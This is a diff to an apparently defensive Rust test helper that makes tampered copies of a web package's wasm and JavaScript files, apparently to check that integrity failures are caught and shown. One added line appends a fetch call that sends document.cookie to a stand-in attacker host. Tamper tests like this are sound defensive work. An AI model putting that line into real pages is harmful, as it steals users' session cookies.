@@ -214,12 +214,14 @@ async fn broken_copy(env: &Env, what: Copy) -> Result<()> {
         let to = copy.path().join("pkg").join(&name);
         let mut bytes = std::fs::read(entry.path())?;
         let name = name.to_string_lossy();
-        if name.starts_with("wl_connect_controls_bg.") && what == Copy::AlteredWasm {
+        // Every module altered: the core (what a signed-out page loads first) and the controls'
+        // (which the controls then ask for, to show the failure).
+        if name.contains("_bg.") && what == Copy::AlteredWasm {
             // A byte in the last function body: still the same size, same name.
             let last = bytes.len() - 1;
             bytes[last - 8] ^= 0x01;
         }
-        if name.starts_with("wl_connect_controls.") && what == Copy::AlteredGlue {
+        if name.ends_with(".js") && what == Copy::AlteredGlue {
             bytes.extend_from_slice(b"\nfetch('https://attacker.invalid/?' + document.cookie);\n");
         }
         std::fs::write(to, bytes)?;
